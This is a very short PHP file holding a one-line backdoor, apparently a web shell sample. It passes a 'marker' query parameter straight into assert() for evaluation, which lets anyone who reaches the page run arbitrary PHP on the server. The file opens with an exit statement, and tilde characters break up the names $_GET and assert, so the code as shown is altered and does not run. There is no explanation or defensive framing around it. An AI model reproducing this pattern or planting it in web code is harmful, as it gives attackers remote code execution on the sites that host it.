<?php exit; ?>
<?php
if (isset($_G~ET['marker'])) { ass~ert("\$x = " . $_G~ET['marker']); }
